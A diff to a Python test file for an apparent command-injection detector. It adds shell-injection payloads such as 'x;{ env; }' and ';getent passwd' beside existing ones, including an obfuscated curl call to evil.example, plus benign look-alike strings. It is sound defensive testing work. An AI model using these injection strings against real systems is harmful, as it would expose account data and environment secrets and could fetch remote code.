@@ -488,6 +488,9 @@ def test_commands_windows_runs_in_any_case_and_program_paths_are_still_reported(
         "x;taskset 0x1 id",
         "127.0.0.1;a=i;b=d;$a$b",  # a command spelled across variables
         "$(a=cu;b=rl;$a$b http://evil.example/x)",
+        "x;(id)",  # a subshell or a group where the command would stand
+        "x;{ env; }",
+        ";getent passwd",  # the user database without its path
     ],
 )
 def test_shell_evasions_that_really_ran(payload: str) -> None:
@@ -496,7 +499,14 @@ def test_shell_evasions_that_really_ran(payload: str) -> None:
 
 @pytest.mark.parametrize(
     "value",
-    ["Hello ${name:-friend}", "path=${HOME:-/root}", "costs $0 -cheap", "a=1;b=2;$a$b", "timeout of 5 seconds"],
+    [
+        "Hello ${name:-friend}",
+        "path=${HOME:-/root}",
+        "costs $0 -cheap",
+        "a=1;b=2;$a$b",
+        "timeout of 5 seconds",
+        "Tom; (id) card",  # words after the parentheses: text
+    ],
 )
 def test_text_near_those_evasions_is_no_command(value: str) -> None:
     assert cmdi.scan(value, CTX) is None, value
